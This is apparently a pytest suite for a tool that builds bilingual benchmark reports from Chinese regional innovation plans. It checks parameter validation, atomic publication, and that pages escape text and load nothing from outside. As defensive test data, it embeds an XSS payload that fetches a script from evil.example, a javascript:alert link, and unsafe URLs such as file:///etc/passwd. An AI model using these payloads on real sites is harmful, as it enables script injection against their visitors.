"""Reports: parameters refused before anything runs, pages that ask for nothing from outside, publication all or nothing."""

from __future__ import annotations

import hashlib
import json
import re
import shutil
import socket
import subprocess
import sys
import threading
from collections.abc import Iterator, Sequence
from html.parser import HTMLParser
from pathlib import Path
from typing import Any

import nbformat
import pytest
import yaml

import compare as cp
from compare.dataset import digest
from compare.errors import DataError, LockedError, ReportError, UnknownNameError, UsageError
from compare.pages.markup import element, escape, link
from compare.pipeline import build
from compare.report import publish, run_reports
from compare.report.benchmark import open_benchmark
from compare.report.declarations import bind, parse_assignments, read_parameters
from compare.report.execute import Job, execute, is_finished
from compare.report.inputs import digests, files_below
from compare.report.parameters import check_values
from compare.report.specifications import find_reports

ROOT = Path(__file__).parents[1]
NOTEBOOK = ROOT / "notebooks" / "benchmark.ipynb"
MINIATURE = Path(__file__).parent / "miniature"
CHROMIUM = ("chromium", "chromium-browser", "google-chrome")

HOSTILE = "<script>fetch('http://evil.example/a.js')</script><img src=\"http://evil.example/b.png\" onerror=alert(1)>"
DOCUMENTS = {
    "alpha": ("CN-320402", "到2025年，全社会研发投入占地区生产总值比重达到3.2%，" + HOSTILE + "高新技术企业达到500家以上。"),
    "beta": ("CN-320400", "到2025年，全社会研发投入占地区生产总值比重达到3.5%，高新技术企业超过5000家。"),
    "gamma": ("CN-330483", "到2023年，全社会研发投入占地区生产总值比重达到3.6%左右，高新技术企业新增230家。"),
    "delta": ("CN-320282", "大力推进科技创新，加快建设创新高地。"),
}
"""Small plans in the words of real ones; one of them attacks the pages that quote it."""


def write_project(root: Path) -> Path:
    """Write a small project that the real pipeline has built."""
    (root / "data" / "raw").mkdir(parents=True)
    for folder in ("codelists", "lexicons", "rules"):
        shutil.copytree(ROOT / "data" / folder, root / "data" / folder)
    shutil.copytree(ROOT / "notebooks", root / "notebooks", ignore=shutil.ignore_patterns(".*"))
    sources = []
    for name, (area, text) in DOCUMENTS.items():
        content = f"科技创新规划（2021—2025年）\n\n{text}\n".encode()
        (root / "data" / "raw" / f"{name}.txt").write_bytes(content)
        sources.append(
            {
                "id": name,
                "title": f"{name}创新规划<b>",
                "title_en": f"Plan {name} & more",
                "issuer": "人民政府",
                "issuer_en": "Government",
                "ref_area": area,
                "document_number": "测政发〔2021〕1号",
                "issued": "2021-03-01",
                "period_start": 2021,
                "period_end": 2025,
                "address": "javascript:alert(1)" if name == "alpha" else f"https://plans.example/{name}",
                "media_type": "text/plain",
                "file": f"data/raw/{name}.txt",
                "sha256": hashlib.sha256(content).hexdigest(),
            }
        )
    (root / "data" / "sources.yaml").write_text(yaml.safe_dump(sources, allow_unicode=True), encoding="utf-8")
    build(root)
    return root


def write_notebook(path: Path, *cells: str) -> Path:
    """Write a notebook whose first cell holds the parameters."""
    notebook = nbformat.v4.new_notebook(cells=[nbformat.v4.new_code_cell(cell) for cell in cells])
    notebook.cells[0].metadata["tags"] = ["parameters"]
    path.write_text(nbformat.writes(notebook), encoding="utf-8")
    return path


def tree(folder: Path) -> dict[str, str]:
    return digests(folder, files_below(folder))


@pytest.fixture(scope="session")
def built(tmp_path_factory: pytest.TempPathFactory) -> Path:
    return write_project(tmp_path_factory.mktemp("built"))


@pytest.fixture
def project(built: Path, tmp_path: Path) -> Path:
    """A copy of the small project that a test may spoil."""
    return Path(shutil.copytree(built, tmp_path / "project"))


@pytest.fixture(scope="session")
def published(built: Path, tmp_path_factory: pytest.TempPathFactory) -> Path:
    """The small project's benchmark, run in both languages by real kernels: the folder ``latest``."""
    root = Path(shutil.copytree(built, tmp_path_factory.mktemp("published") / "project"))
    run = run_reports(["benchmark"], project=root)
    assert [outcome.job.language for outcome in run.outcomes] == ["zh", "en"]
    return run.latest


@pytest.fixture(params=["zh", "en"])
def page(request: pytest.FixtureRequest, published: Path) -> str:
    name = f"benchmark_{request.param}"
    return (published / name / f"{name}.html").read_text(encoding="utf-8")


class Elements(HTMLParser):
    """The elements of a page with their attributes, and its text."""

    def __init__(self, page: str) -> None:
        super().__init__()
        self.found: list[tuple[str, dict[str, str]]] = []
        self.text = ""
        self.feed(page)

    def handle_starttag(self, tag: str, attrs: Sequence[tuple[str, str | None]]) -> None:
        self.found.append((tag, {name: value or "" for name, value in attrs}))

    def handle_data(self, data: str) -> None:
        self.text += data


# --- parameters ---


def test_the_benchmark_declares_the_parameters_that_users_are_told_of() -> None:
    declared = read_parameters(NOTEBOOK)
    assert {name: p.default for name, p in declared.items()} == {
        "regions": "",
        "indicators": "",
        "reference": "best",
        "language": "zh",
        "output": "",
    }


@pytest.mark.parametrize("cell", ["x: int | None = None", "x = 1", "x: str = 1", "x: list = []", "import os"])
def test_a_parameters_cell_of_anything_but_plain_assignments_is_refused(tmp_path: Path, cell: str) -> None:
    with pytest.raises(DataError, match="parameters cell, line 1: found .*, expected `name: type = value`"):
        read_parameters(write_notebook(tmp_path / "n.ipynb", cell))


def test_a_file_that_is_no_notebook_is_named(tmp_path: Path) -> None:
    (tmp_path / "n.ipynb").write_text("[]", encoding="utf-8")
    with pytest.raises(DataError, match="n.ipynb: not a notebook"):
        read_parameters(tmp_path / "n.ipynb")


@pytest.mark.parametrize(
    ("given", "message"),
    [
        (["regions"], "-p 'regions': expected name=value"),
        (["a=1", "a=2"], "-p a is given twice: '1' and '2'"),
    ],
)
def test_assignments_that_cannot_be_read_say_why(given: list[str], message: str) -> None:
    with pytest.raises(UsageError, match=re.escape(message)):
        parse_assignments(given)


def test_an_unknown_parameter_names_the_nearest_and_all() -> None:
    with pytest.raises(UnknownNameError) as error:
        bind(read_parameters(NOTEBOOK), {"region": "x"}, notebook="benchmark")
    assert "report 'benchmark': unknown parameter 'region'; nearest: regions" in str(error.value)
    assert "parameters of this report: regions, indicators, reference, language" in str(error.value)


def test_the_output_folder_is_not_a_parameter_of_the_command() -> None:
    with pytest.raises(UsageError, match="choose the folder with --output"):
        bind(read_parameters(NOTEBOOK), {"output": "x"}, notebook="benchmark")


@pytest.mark.parametrize(
    ("cell", "text", "value"), [("n: int = 1", "7", 7), ("f: float = 1.0", "2", 2.0), ("b: bool = True", "false", False)]
)
def test_values_take_the_declared_type(tmp_path: Path, cell: str, text: str, value: object) -> None:
    declared = read_parameters(write_notebook(tmp_path / "n.ipynb", cell))
    assert list(bind(declared, {next(iter(declared)): text}, notebook="n").values()) == [value]


@pytest.mark.parametrize(("cell", "text"), [("n: int = 1", "many"), ("b: bool = True", "yes")])
def test_values_of_another_type_are_refused(tmp_path: Path, cell: str, text: str) -> None:
    declared = read_parameters(write_notebook(tmp_path / "n.ipynb", cell))
    with pytest.raises(UsageError, match="expected"):
        bind(declared, {next(iter(declared)): text}, notebook="n")


@pytest.mark.parametrize(
    ("values", "message"),
    [
        ({"regions": "CN-320403,CN-320400"}, "unknown region 'CN-320403'; nearest: CN-3204"),
        ({"regions": "天宁区", "reference": "best"}, "regions=CN-320402: a comparison needs two or more; add some of: "),
        ({"regions": "CN-320402,江苏省"}, "regions: no document and no figure of CN-320000"),
        ({"indicators": "hightech_enterprise"}, "unknown indicator 'hightech_enterprise'; nearest: hightech_enterprises"),
        ({"indicators": "rd_expenditure"}, "indicators: no area states a target for rd_expenditure"),
        ({"reference": "bset"}, "reference='bset': expected best, median, parent or a region of the comparison"),
        (
            {"regions": "CN-320402,CN-320400", "reference": "CN-330483"},
            "CN-330483 is not compared here, these are: CN-320402, CN-320400",
        ),
        ({"regions": "CN-320402,CN-320400", "reference": "CN-320282"}, "CN-320282 is not compared here"),
        ({"reference": "宜兴市"}, "CN-320282 states none of the measures compared, these do: CN-320402, CN-320400, CN-330483"),
        (
            {"regions": "CN-330483,CN-320282", "reference": "best"},
            "regions=CN-330483,CN-320282: no measure is stated by two of them",
        ),
        ({"language": "fr"}, "language='fr': expected one of: zh, en"),
    ],
)
def test_values_that_the_data_do_not_know_are_refused(built: Path, values: dict[str, str], message: str) -> None:
    with pytest.raises(UsageError) as error:
        check_values(cp.load(built), values)
    assert message in str(error.value)


def test_names_become_codes(built: Path) -> None:
    given = {
        "regions": "天宁区，常州市,CN-320402",
        "indicators": "高新技术企业数",
        "reference": "常州市",
        "language": "en",
        "other": "x",
    }
    assert check_values(cp.load(built), given) == {
        "regions": "CN-320402,CN-320400",
        "indicators": "hightech_enterprises",
        "reference": "CN-320400",
        "language": "en",
        "other": "x",
    }


# --- the benchmark's rows ---


def test_the_benchmark_opens_with_the_indicators_named_first(built: Path, tmp_path: Path) -> None:
    view = open_benchmark(cp.load(built), output=str(tmp_path), first=["hightech_enterprises"]).view
    assert [m.indicator for m in view.measures] == ["hightech_enterprises", "rd_expenditure_gdp_ratio"]
    assert view.headline == 1


def test_only_the_chosen_regions_are_compared(built: Path, tmp_path: Path) -> None:
    view = open_benchmark(cp.load(built), output=str(tmp_path), regions="CN-330483,CN-320402").view
    assert view.areas == ["CN-320402", "CN-330483"]
    assert [m.indicator for m in view.measures] == ["rd_expenditure_gdp_ratio"]


def test_regions_that_share_no_measure_are_refused(built: Path, tmp_path: Path) -> None:
    with pytest.raises(UsageError, match="no measure is stated by two of them"):
        open_benchmark(cp.load(built), output=str(tmp_path), regions="CN-330483,CN-320282")


def test_a_misspelt_parameter_in_the_notebook_is_an_error(built: Path, tmp_path: Path) -> None:
    with pytest.raises(UnknownNameError, match="unknown parameter 'region'; nearest: regions"):
        open_benchmark(cp.load(built), output=str(tmp_path), region="CN-320402")


# --- markup ---


def test_text_is_escaped_and_directions_and_controls_are_shown_as_unknown() -> None:
    assert str(element("p", "<b>", title='"')) == '<p title="&quot;">&lt;b&gt;</p>'
    assert escape("a\u202eb\x00") == "a\ufffdb\ufffd"


@pytest.mark.parametrize(
    "address", ["http://[bad", "javascript:alert(1)", "data:text/html,x", "//evil.example/x", "file:///etc/passwd"]
)
def test_an_address_that_is_no_web_page_is_no_link(address: str) -> None:
    assert str(link(address, "x")) == "x"


# --- which notebooks are reports ---


def test_a_notebook_is_a_report_where_its_parameters_have_an_output(tmp_path: Path) -> None:
    folder = tmp_path / "notebooks"
    folder.mkdir()
    for name, cell in {"b": 'output: str = ""', "a": 'output: str = ""', "play": 'language: str = "zh"', "free": ""}.items():
        write_notebook(folder / f"{name}.ipynb", cell)
    assert [report.id for report in find_reports(tmp_path)] == ["a", "b"]
    assert [report.id for report in find_reports(tmp_path, ["b", "a", "b"])] == ["b", "a"]
    with pytest.raises(UsageError, match=r"'play' is interactive and makes no report: start JupyterLab with make lab .*play"):
        find_reports(tmp_path, ["a", "play"])
    with pytest.raises(UnknownNameError, match="unknown report 'plai'; expected one of: a, b"):
        find_reports(tmp_path, ["plai"])


def test_a_folder_without_a_report_is_an_error(tmp_path: Path) -> None:
    (tmp_path / "notebooks").mkdir()
    write_notebook(tmp_path / "notebooks" / "play.ipynb", "")
    with pytest.raises(DataError, match="there is no report"):
        find_reports(tmp_path)


# --- one notebook in a process ---


def run_here(tmp_path: Path, *cells: str) -> tuple[Path, object]:
    folder = tmp_path / "job"
    folder.mkdir()
    job = Job("n", "", str(write_notebook(tmp_path / "n.ipynb", *cells)), str(folder))
    code = (
        "import json, sys; from compare.report.execute import Job, execute; "
        "o = execute(Job(*json.loads(sys.argv[1]))); print('\\n' + json.dumps([o.error, o.where, o.title]))"
    )
    arguments = json.dumps([job.report, job.language, job.notebook, job.folder])
    done = subprocess.run([sys.executable, "-c", code, arguments], capture_output=True, text=True, encoding="utf-8", check=True)
    return folder, json.loads(done.stdout.splitlines()[-1])


def test_the_kernel_is_the_running_interpreter_in_the_reports_folder(tmp_path: Path) -> None:
    folder, outcome = run_here(tmp_path, "x: int = 1", "import sys, os\nopen('who.txt', 'w').write(sys.executable)")
    assert outcome == ["", "", "n"]
    assert (folder / "who.txt").read_text() == sys.executable
    assert is_finished(folder / "n.ipynb")


def test_a_failing_cell_is_named(tmp_path: Path) -> None:
    folder, outcome = run_here(tmp_path, "x: int = 1", "# comment\nvalue = 1 / 0")
    assert outcome == ["ZeroDivisionError: division by zero", "cell [2] `value = 1 / 0`", ""]
    assert not is_finished(folder / "n.ipynb")


def test_a_notebook_that_was_cut_off_is_not_finished(tmp_path: Path) -> None:
    path = tmp_path / "n.ipynb"
    for state, expected in (
        ({"end_time": None}, False),
        ({"end_time": "t", "exception": True}, False),
        ({"end_time": "t"}, True),
    ):
        path.write_text(json.dumps({"metadata": {"papermill": state}}), encoding="utf-8")
        assert is_finished(path) is expected
    assert not is_finished(tmp_path / "missing.ipynb")


def test_whatever_breaks_a_report_becomes_its_outcome(tmp_path: Path) -> None:
    outcome = execute(Job("n", "", str(tmp_path / "missing.ipynb"), str(tmp_path)))
    assert not outcome.is_ok
    assert "missing.ipynb" in outcome.error


# --- publication ---


def test_a_second_run_finds_the_folder_locked(tmp_path: Path) -> None:
    with publish.lock(tmp_path), pytest.raises(LockedError, match="another run is writing here"), publish.lock(tmp_path):
        pass
    with publish.lock(tmp_path):
        pass


def test_what_a_killed_run_left_is_found_and_no_id_is_used_twice(tmp_path: Path) -> None:
    left = tmp_path / ".staging-20200101-000000"
    for folder in (left, tmp_path / ".latest-new", tmp_path / ".removed-20190101-000000"):
        folder.mkdir()
    assert publish.clean_up(tmp_path) == [left]
    left.rmdir()
    run, folder = publish.stage(tmp_path)
    assert re.fullmatch(r"\d{8}-\d{6}", run)
    assert [p.name for p in tmp_path.iterdir()] == [folder.name]
    folder.rename(tmp_path / run)
    assert publish.stage(tmp_path)[0] > run


def test_a_swap_that_was_cut_off_is_undone(tmp_path: Path) -> None:
    (tmp_path / ".latest-old").mkdir()
    (tmp_path / ".latest-old" / "index.html").write_text("good", encoding="utf-8")
    publish.clean_up(tmp_path)
    assert (tmp_path / "latest" / "index.html").read_text(encoding="utf-8") == "good"
    assert not (tmp_path / ".latest-old").exists()


def test_latest_stays_and_the_open_file_is_named(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    for folder, text in (("latest", "old"), ("20260101-000000", "new")):
        (tmp_path / folder).mkdir()
        (tmp_path / folder / "book.xlsx").write_text(text, encoding="utf-8")
    rename, open_ = Path.rename, Path.open
    monkeypatch.setattr(publish, "exchange", lambda one, other: False)  # as on Windows

    def refuse_rename(self: Path, target: Path) -> Path:
        if self.name == "latest":
            raise PermissionError(13, "in use")
        return rename(self, target)

    def refuse_open(self: Path, mode: str = "r", **options: Any) -> Any:
        if self.parent.name == "latest" and mode == "r+b":
            raise PermissionError(13, "in use")
        return open_(self, mode, **options)

    monkeypatch.setattr(Path, "rename", refuse_rename)
    monkeypatch.setattr(Path, "open", refuse_open)
    with pytest.raises(ReportError) as error:
        publish.replace_latest(tmp_path / "20260101-000000")
    assert "book.xlsx is open in another program" in str(error.value)
    assert "the run is complete in" in str(error.value)
    assert (tmp_path / "latest" / "book.xlsx").read_text(encoding="utf-8") == "old"
    assert sorted(p.name for p in tmp_path.iterdir()) == ["20260101-000000", "latest"]


@pytest.mark.parametrize("broken", [PermissionError(13, "Permission denied", "x"), OSError(28, "No space left on device")])
def test_a_folder_that_cannot_be_written_is_an_error_of_ours(
    project: Path, monkeypatch: pytest.MonkeyPatch, broken: OSError
) -> None:
    def refuse(_: Path) -> tuple[str, Path]:
        raise broken

    monkeypatch.setattr(publish, "stage", refuse)
    with pytest.raises(cp.CompareError, match=f"{broken.strerror}; free the file or the disk, or choose another --output"):
        run_reports(["benchmark"], project=project)


def test_a_full_disk_leaves_latest_as_it_was(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    for folder in ("latest", "20260101-000000"):
        (tmp_path / folder).mkdir()

    def refuse(_: Path, target: Path) -> None:
        target.mkdir()
        raise shutil.Error([("a", "b", "No space left on device")])

    monkeypatch.setattr(shutil, "copytree", refuse)
    with pytest.raises(ReportError, match="was not replaced: .*No space left on device"):
        publish.replace_latest(tmp_path / "20260101-000000")
    assert sorted(p.name for p in tmp_path.iterdir()) == ["20260101-000000", "latest"]


# --- a published run ---


def test_the_manifest_tells_the_truth(published: Path) -> None:
    manifest = json.loads((published / "manifest.json").read_text(encoding="utf-8"))
    assert manifest["status"] == "ok"
    assert {path: digest for path, digest in tree(published).items() if path != "manifest.json"} == manifest["files"]
    assert [(r["language"], r["status"], r["parameters"]["reference"]) for r in manifest["reports"]] == [
        ("zh", "ok", "best"),
        ("en", "ok", "best"),
    ]
    root = published.parents[1]
    assert manifest["inputs"][manifest["data"]]["data/raw/alpha.txt"] == digest(root / "data" / "raw" / "alpha.txt")
    assert {r["made_from"]["data"] for r in manifest["reports"]} == {manifest["data"]}
    assert manifest["versions"]["python"] == ".".join(map(str, sys.version_info[:3]))
    run = published.parent / manifest["run"]
    assert tree(run) == tree(published)
    assert not [p for p in published.parent.iterdir() if p.name.startswith((".staging", ".latest"))]


def test_what_the_sidecar_names_is_there(published: Path) -> None:
    made = json.loads((published / "benchmark_zh" / "made.json").read_text(encoding="utf-8"))
    roles = [file["role"] for file in made["files"]]
    assert (roles.count("workbook"), roles.count("figure")) == (1, 4)
    assert all((published / "benchmark_zh" / file["path"]).stat().st_size > 1000 for file in made["files"])
    assert made["facts"]["measures"] == ["rd_expenditure_gdp_ratio/standard/ratio", "hightech_enterprises/standard/level"]
    assert made["title"] == f"{len(DOCUMENTS)}份区域创新规划的目标对标"


def test_published_files_name_no_folder_of_this_machine(published: Path) -> None:
    names = {str(published.parents[1]), str(ROOT), str(Path.home())} - {"/"}
    texts = [p for p in published.rglob("*") if p.suffix in (".html", ".ipynb", ".json", ".txt")]
    assert len(texts) >= 8
    assert not [(p.name, name) for p in texts for name in names if name in p.read_text(encoding="utf-8")]


def test_the_page_asks_for_nothing_from_outside(page: str) -> None:
    parsed = Elements(page)
    loaded = [
        a[name] for tag, a in parsed.found for name in ("src", "href", "data", "action", "srcset") if name in a and tag != "a"
    ]
    assert len(loaded) == 2
    assert all(value.startswith("data:image/svg+xml,") for value in loaded)
    assert not [tag for tag, _ in parsed.found if tag in ("script", "link", "iframe", "object", "embed", "form", "base")]
    style = "".join(re.findall(r"<style.*?</style>", page, flags=re.DOTALL))
    assert re.findall(r"url\([^)]{0,20}", style) == ['url("data:font/woff;base'] * 4
    assert "@import" not in style
    assert not [name for _, attributes in parsed.found for name in attributes if name.startswith("on")]
    assert "default-src &#x27;none&#x27;" in page or "default-src 'none'" in page


def test_the_words_of_a_document_stay_words(page: str) -> None:
    parsed = Elements(page)
    assert "<script>fetch('http://evil.example/a.js')</script><img src=\"http://evil.example/b.png\"" in parsed.text
    assert not [a for _, a in parsed.found if "evil.example" in " ".join([a.get("src", ""), a.get("href", "")])]
    assert not [a for tag, a in parsed.found if tag == "a" and a["href"].startswith("javascript")]
    assert [a["href"] for tag, a in parsed.found if tag == "a" and a["href"].startswith("https://")] == [
        f"https://plans.example/{name}" for name in ("beta", "gamma", "delta")
    ] or sorted(a["href"] for tag, a in parsed.found if tag == "a" and a["href"].startswith("https://")) == [
        f"https://plans.example/{name}" for name in ("beta", "delta", "gamma")
    ]


def test_every_link_on_the_page_leads_somewhere(page: str, published: Path) -> None:
    parsed = Elements(page)
    ids = [a["id"] for _, a in parsed.found if "id" in a]
    assert len(ids) == len(set(ids))
    targets = [a["href"] for tag, a in parsed.found if tag == "a"]
    assert {t[1:] for t in targets if t.startswith("#")} <= set(ids)
    files = {t for t in targets if not t.startswith(("#", "https:"))}
    assert len(files) == 5
    folder = published / ("benchmark_zh" if '<html lang="zh">' in page else "benchmark_en")
    assert all((folder / name).is_file() for name in files)


def test_figures_lead_to_their_quotes_and_quotes_to_characters(page: str) -> None:
    parsed = Elements(page)
    hrefs = [a["href"] for tag, a in parsed.found if tag == "a"]
    assert {"#q01", "#q02", "#q01-CN-320402", "#q02-CN-320400"} <= set(hrefs)
    text = f"科技创新规划（2021—2025年）\n\n{DOCUMENTS['beta'][1]}"
    start = text.index("3.5")
    assert f"{start}–{start + len('3.5%')}" in parsed.text or f"{start}–{start + len('3.5')}" in parsed.text
    assert "测政发〔2021〕1号" in parsed.text


def test_the_page_shows_no_code_and_describes_its_images(page: str) -> None:
    parsed = Elements(page)
    assert "open_benchmark" not in parsed.text
    alts = [a["alt"] for tag, a in parsed.found if tag == "img"]
    assert len(alts) == 2
    assert all("3.6%" in alt or "5,000" in alt for alt in alts)
    assert [tag for tag, _ in parsed.found].count("h1") == 1


def test_each_page_is_in_its_language(published: Path) -> None:
    pages = {x: (published / f"benchmark_{x}" / f"benchmark_{x}.html").read_text(encoding="utf-8") for x in ("zh", "en")}
    assert '<html lang="zh">' in pages["zh"]
    assert '<html lang="en">' in pages["en"]
    assert "桐乡市最高，≈ 3.6%（2023年）；天宁区最低，3.2%（2025年）。" in Elements(pages["zh"]).text
    assert (
        "Tongxiang City is highest with ≈ 3.6% (2023); Tianning District is lowest with 3.2% (2025)."
        in Elements(pages["en"]).text
    )
    outside = re.sub(r'<(\w+)[^>]*\blang="zh"[^>]*>.*?</\1>|<img[^>]*>|<style>.*?</style>', "", pages["en"], flags=re.DOTALL)
    assert not re.findall(r"[\u4e00-\u9fff]{2,}", outside.replace("万", "").replace("亿", ""))


def test_the_index_links_to_every_report(published: Path) -> None:
    index = (published / "index.html").read_text(encoding="utf-8")
    hrefs = {a["href"] for tag, a in Elements(index).found if tag == "a"}
    assert {"benchmark_zh/benchmark_zh.html", "benchmark_en/benchmark_en.html", "benchmark_zh/benchmark_zh.xlsx"} <= hrefs
    assert all((published / name).is_file() for name in hrefs - {"#text"})


def test_a_failed_report_leaves_latest_as_it_was(project: Path) -> None:
    latest = project / "outputs" / "latest"
    latest.mkdir(parents=True)
    (latest / "index.html").write_text("good", encoding="utf-8")
    write_notebook(project / "notebooks" / "broken.ipynb", 'note: str = "<b>"\noutput: str = ""', "values = []\nvalues[3]")
    with pytest.raises(ReportError) as error:
        run_reports(["broken"], project=project)
    message = str(error.value)
    assert "1 of 1 reports failed; latest is unchanged; the failed run is in " in message
    assert "broken.ipynb (-), cell [3] `values[3]`: IndexError: list index out of range" in message
    assert {p.name for p in latest.iterdir()} == {"index.html"}
    [run] = [p for p in latest.parent.iterdir() if p.name[0] in "0123456789"]
    log = Path(re.search(r"log: (.*)", message)[1])
    assert log.is_relative_to(run)
    assert "IndexError: list index out of range" in log.read_text(encoding="utf-8")
    manifest = json.loads((run / "manifest.json").read_text(encoding="utf-8"))
    assert (manifest["status"], manifest["reports"][0]["status"]) == ("failed", "failed")
    assert (run / "broken" / "broken.ipynb").is_file()
    assert "IndexError" in (run / "index.html").read_text(encoding="utf-8")


def test_an_altered_document_stops_everything(project: Path) -> None:
    raw = project / "data" / "raw" / "beta.txt"
    raw.write_bytes(raw.read_bytes().replace(b"5000", b"6000"))
    with pytest.raises(DataError, match=r"beta: data/raw/beta.txt has been altered"):
        run_reports(["benchmark"], project=project)
    assert kept_failures(project) == ["beta: data/raw/beta.txt has been altered"]


def kept_failures(project: Path) -> list[str]:
    """The errors of the runs of a project, none of which published anything: the second line of each."""
    outputs = project / "outputs"
    assert not (outputs / "latest").exists()
    manifests = [json.loads(path.read_text(encoding="utf-8")) for path in sorted(outputs.glob("*/manifest.json"))]
    assert {manifest["status"] for manifest in manifests} == {"failed"}
    pages = [path.read_text(encoding="utf-8") for path in sorted(outputs.glob("*/index.html"))]
    assert all(escape(m["error"].splitlines()[0]) in page for m, page in zip(manifests, pages, strict=True))
    return [manifest["error"].splitlines()[1].strip().partition(": sha256")[0] for manifest in manifests]


def test_a_missing_document_and_an_unknown_code_stop_everything(project: Path) -> None:
    (project / "data" / "raw" / "beta.txt").unlink()
    with pytest.raises(DataError, match=r"data/raw/beta.txt is missing"):
        run_reports(["benchmark"], project=project)
    codelist = project / "data" / "codelists" / "kind.yaml"
    codelist.write_text(codelist.read_text(encoding="utf-8").replace("- id: level", "- id: levle", 1), encoding="utf-8")
    with pytest.raises(DataError, match="unknown kind 'level'"):
        run_reports(["benchmark"], project=project)
    missing, unknown = kept_failures(project)
    assert missing == "beta: data/raw/beta.txt is missing"
    assert "unknown kind 'level'" in unknown


@pytest.mark.parametrize("choice", [["regions=CN-330483,CN-320282"], ["reference=CN-320282"]])
def test_what_cannot_be_compared_is_refused_before_anything_runs(project: Path, choice: list[str]) -> None:
    with pytest.raises(UsageError, match="no measure is stated by two of them|states none of the measures compared"):
        run_reports(["benchmark"], project=project, parameters=choice)
    assert not (project / "outputs").exists()


def test_a_parameter_that_some_reports_lack_names_those_that_have_it(project: Path) -> None:
    with pytest.raises(UsageError) as error:
        run_reports(project=project, parameters=["indicators=hightech_enterprises"])
    assert str(error.value) == (
        "-p indicators: changes, document_audit, policy_actions have no such parameter; name the reports that have it: "
        "region-compare report benchmark region_profile targets_and_actuals -p indicators=hightech_enterprises"
    )
    assert not (project / "outputs").exists()


def test_an_unknown_report_names_those_there_are(project: Path) -> None:
    with pytest.raises(UnknownNameError, match="unknown report 'benchmarks'; nearest: benchmark"):
        run_reports(["benchmarks"], project=project)


# --- the notebook as a text ---


REPORTS = [path for path in sorted((ROOT / "notebooks").glob("*.ipynb")) if "output" in read_parameters(path)]


@pytest.mark.parametrize("path", REPORTS, ids=lambda path: path.stem)
def test_a_report_is_a_thin_notebook_in_both_languages_with_outputs_cleared(path: Path) -> None:
    notebook = nbformat.read(path, as_version=4)
    nbformat.validate(notebook)
    notes = [cell for cell in notebook.cells if cell.cell_type == "markdown"]
    assert all("notebook-only" in cell.metadata.tags and re.search("[\u4e00-\u9fff]", cell.source) for cell in notes)
    code = [cell for cell in notebook.cells if cell.cell_type == "code"]
    assert not [cell for cell in code if cell.outputs or cell.execution_count is not None]
    assert not [cell for cell in code if re.search(r"^\s*(def|class|lambda)\b", cell.source, re.MULTILINE)]
    assert max(len(cell.source.splitlines()) for cell in code) <= 20


@pytest.mark.slow
def test_the_real_documents_make_a_report_with_the_three_measures_first(tmp_path: Path) -> None:
    root = tmp_path / "project"
    for folder in ("data", "notebooks"):
        shutil.copytree(ROOT / folder, root / folder)
    run = run_reports(["benchmark"], project=root, parameters=["language=en"])
    made = json.loads((run.latest / "benchmark_en" / "made.json").read_text(encoding="utf-8"))
    first = [measure.split("/")[0] for measure in made["facts"]["measures"][:3]]
    assert first == ["rd_expenditure_gdp_ratio", "hightech_enterprises", "invention_patents_per_10k"]
    shared = cp.comparisons(cp.load(root))
    assert len(made["facts"]["measures"]) == len(shared)
    text = Elements((run.latest / "benchmark_en" / "benchmark_en.html").read_text(encoding="utf-8")).text
    numbers = {source.document_number for source in cp.load(root).sources.values() if source.document_number}
    assert all(number in text for number in numbers)


@pytest.fixture
def proxy() -> Iterator[tuple[int, list[bytes]]]:
    """A proxy that answers nobody and notes what it was asked for."""
    asked: list[bytes] = []
    with socket.create_server(("127.0.0.1", 0)) as server:

        def note() -> None:
            while True:
                try:
                    connection, _ = server.accept()
                except OSError:
                    return
                with connection:
                    connection.settimeout(1)
                    asked.append(connection.recv(200))

        threading.Thread(target=note, daemon=True).start()
        yield server.getsockname()[1], asked
        server.shutdown(socket.SHUT_RDWR)


def shot(address: str, folder: Path, port: int) -> Path:
    """Let Chromium draw a page, with `port` as its only way out."""
    program = next(path for path in map(shutil.which, CHROMIUM) if path)
    options = "--headless --no-sandbox --disable-gpu --disable-quic --no-first-run --disable-background-networking"
    options += (
        f" --disable-component-update --disable-sync --user-data-dir={folder / 'profile'} --proxy-server=127.0.0.1:{port}"
    )
    picture = folder / "page.png"
    command = [program, *options.split(), f"--screenshot={picture}", "--window-size=800,1200", address]
    subprocess.run(command, check=True, capture_output=True, timeout=120)
    return picture


def hosts(asked: Sequence[bytes]) -> set[str]:
    """Return the hosts that a proxy was asked for, without those that the browser's maker runs."""
    named = {match[1].decode() for request in asked if (match := re.match(rb"\w+ (?:http://)?([^/: ]+)", request))}
    return {host for host in named if not host.endswith((".google.com", ".googleapis.com", ".gstatic.com", ".gvt1.com"))}


@pytest.mark.browser
def test_a_browser_would_be_caught_asking(tmp_path: Path, proxy: tuple[int, list[bytes]]) -> None:
    (tmp_path / "page.html").write_text("<img src='http://probe.example/x.png'>", encoding="utf-8")
    shot((tmp_path / "page.html").as_uri(), tmp_path, proxy[0])
    assert hosts(proxy[1]) == {"probe.example"}


@pytest.mark.browser
@pytest.mark.parametrize("name", ["index.html", "benchmark_zh/benchmark_zh.html"])
def test_a_browser_shows_the_page_without_asking_anyone(
    published: Path, tmp_path: Path, proxy: tuple[int, list[bytes]], name: str
) -> None:
    assert shot((published / name).as_uri(), tmp_path, proxy[0]).stat().st_size > 20_000
    assert hosts(proxy[1]) == set()
